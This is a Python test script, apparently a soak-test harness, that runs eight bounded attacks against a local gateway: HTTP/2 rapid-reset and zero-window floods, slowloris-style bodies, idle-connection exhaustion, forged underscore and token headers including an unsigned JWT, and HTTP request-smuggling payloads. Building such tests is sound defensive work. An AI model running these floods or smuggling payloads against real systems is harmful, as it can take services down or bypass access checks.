@@ -1,0 +1,236 @@
+#!/usr/bin/env python3
+"""The attacks of Benchmarks/soak.sh, one per call, each bounded in time (issue 15's list).
+
+usage: soak_attacks.py ATTACK PORT [SECONDS]
+
+  rapid-reset      HTTP/2 HEADERS+RST_STREAM pairs, 300 per connection, reconnecting
+  zero-window      HTTP/2 with SETTINGS_INITIAL_WINDOW_SIZE=0, 50 streams of /big, held, then dropped
+  close-mid-body   h2c and HTTP/1.1 POSTs that send part of a body and close (half with RST)
+  slow-body        HTTP/1.1 POSTs that announce 1 MB, send 10 bytes, then go silent
+  silent           connections that send nothing
+  underscore       requests with X_AppCheck_Status and X_Forwarded_For headers
+  hostile-tokens   malformed, forged and oversized tokens on the enforce route
+  smuggling        Content-Length + Transfer-Encoding, duplicate lengths, bare LF, obs-fold
+
+Prints one line: ATTACK CONNECTIONS REQUESTS. Never raises on the gateway's refusals: they are the point.
+"""
+import os
+import random
+import socket
+import struct
+import sys
+import time
+
+HOST = "127.0.0.1"
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+
+
+def frame(ftype, flags=0, stream=0, payload=b""):
+    n = len(payload)
+    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, ftype, flags, stream & 0x7FFFFFFF) + payload
+
+
+def hpack_get(path):
+    p = path.encode()
+    return bytes([0x82, 0x86, 0x04, len(p)]) + p + b"\x41\x01a"
+
+
+def hpack_post(path):
+    p = path.encode()
+    return bytes([0x83, 0x86, 0x04, len(p)]) + p + b"\x41\x01a"
+
+
+def connect(port, timeout=2.0):
+    s = socket.create_connection((HOST, port), timeout=timeout)
+    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    return s
+
+
+def drain(s, seconds):
+    end = time.time() + seconds
+    s.settimeout(0.2)
+    while time.time() < end:
+        try:
+            if not s.recv(65536):
+                return
+        except socket.timeout:
+            continue
+        except OSError:
+            return
+
+
+def rst_close(s):
+    try:
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+    except OSError:
+        pass
+    s.close()
+
+
+def rapid_reset(port, seconds):
+    conns = reqs = 0
+    end = time.time() + seconds
+    while time.time() < end:
+        try:
+            s = connect(port)
+        except OSError:
+            time.sleep(0.05)
+            continue
+        out = bytearray(PREFACE + frame(4))
+        for i in range(300):
+            sid = 2 * i + 1
+            out += frame(1, 0x5, sid, hpack_get("/"))
+            out += frame(3, 0, sid, b"\x00\x00\x00\x08")
+        try:
+            s.sendall(out)
+            drain(s, 0.2)
+        except OSError:
+            pass
+        s.close()
+        conns += 1
+        reqs += 300
+    return conns, reqs
+
+
+def zero_window(port, seconds):
+    conns = reqs = 0
+    end = time.time() + seconds
+    while time.time() < end:
+        try:
+            s = connect(port)
+            out = PREFACE + frame(4, 0, 0, struct.pack(">HI", 4, 0))
+            for i in range(50):
+                out += frame(1, 0x5, 2 * i + 1, hpack_get("/big"))
+            s.sendall(out)
+            drain(s, min(5, max(0.5, end - time.time())))
+            rst_close(s)
+            conns += 1
+            reqs += 50
+        except OSError:
+            time.sleep(0.05)
+    return conns, reqs
+
+
+def close_mid_body(port, seconds):
+    conns = reqs = 0
+    end = time.time() + seconds
+    chunk = b"x" * 16384
+    while time.time() < end:
+        batch = []
+        for i in range(20):
+            try:
+                s = connect(port)
+                if i % 2:
+                    s.sendall(PREFACE + frame(4) + frame(1, 0x4, 1, hpack_post("/upload")) + frame(0, 0, 1, chunk) * 2)
+                else:
+                    s.sendall(b"POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n" + chunk * 2)
+                batch.append(s)
+                reqs += 1
+            except OSError:
+                pass
+        time.sleep(0.2)
+        for i, s in enumerate(batch):
+            rst_close(s) if i % 4 == 0 else s.close()
+        conns += len(batch)
+    return conns, reqs
+
+
+def slow_body(port, seconds):
+    held = []
+    end = time.time() + seconds
+    while time.time() < end and len(held) < 200:
+        try:
+            s = connect(port)
+            s.sendall(b"POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n0123456789")
+            held.append(s)
+        except OSError:
+            time.sleep(0.05)
+    time.sleep(max(0, end - time.time()))
+    for s in held:
+        s.close()
+    return len(held), len(held)
+
+
+def silent(port, seconds):
+    held = []
+    end = time.time() + seconds
+    while time.time() < end and len(held) < 300:
+        try:
+            held.append(connect(port))
+        except OSError:
+            time.sleep(0.05)
+    time.sleep(max(0, end - time.time()))
+    for s in held:
+        s.close()
+    return len(held), 0
+
+
+def one_request(port, raw, read=True):
+    try:
+        s = connect(port)
+        s.sendall(raw)
+        if read:
+            drain(s, 0.3)
+        s.close()
+        return 1
+    except OSError:
+        return 0
+
+
+def underscore(port, seconds):
+    n = 0
+    end = time.time() + seconds
+    while time.time() < end:
+        n += one_request(port, b"GET /x HTTP/1.1\r\nHost: a\r\nX_AppCheck_Status: verified\r\n"
+                               b"X_Forwarded_For: 6.6.6.6\r\nConnection: close\r\n\r\n")
+    return n, n
+
+
+def hostile_tokens(port, seconds):
+    n = 0
+    end = time.time() + seconds
+    rnd = random.Random(15)
+    shapes = [
+        lambda: "a.b.c",
+        lambda: "eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.",
+        lambda: "x" * 9000,
+        lambda: ".".join("".join(rnd.choice("ABCxyz019-_") for _ in range(rnd.randint(0, 400))) for _ in range(3)),
+        lambda: "eyJhbGciOiJSUzI1NiIsImtpZCI6Ijk5In0." + "e" * 300 + "." + "s" * 342,
+    ]
+    while time.time() < end:
+        token = rnd.choice(shapes)()
+        n += one_request(port, ("GET /api/x HTTP/1.1\r\nHost: a\r\nX-Firebase-AppCheck: %s\r\nConnection: close\r\n\r\n"
+                                % token).encode())
+    return n, n
+
+
+def smuggling(port, seconds):
+    cases = [
+        b"POST /x HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
+        b"POST /x HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nContent-Length: 5\r\n\r\nabcde",
+        b"GET /x HTTP/1.1\nHost: a\n\n",
+        b"GET /x HTTP/1.1\r\nHost: a\r\nX-Fold: a\r\n b\r\n\r\n",
+        b"POST /x HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
+        b"GET /x HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
+    ]
+    n = 0
+    end = time.time() + seconds
+    while time.time() < end:
+        for c in cases:
+            n += one_request(port, c)
+    return n, n
+
+
+ATTACKS = {
+    "rapid-reset": rapid_reset, "zero-window": zero_window, "close-mid-body": close_mid_body,
+    "slow-body": slow_body, "silent": silent, "underscore": underscore, "hostile-tokens": hostile_tokens,
+    "smuggling": smuggling,
+}
+
+if __name__ == "__main__":
+    if len(sys.argv) < 3 or sys.argv[1] not in ATTACKS:
+        sys.stderr.write(__doc__)
+        sys.exit(2)
+    seconds = float(sys.argv[3]) if len(sys.argv) > 3 else 20
+    c, r = ATTACKS[sys.argv[1]](int(sys.argv[2]), seconds)
+    print("%s %d %d" % (sys.argv[1], c, r))
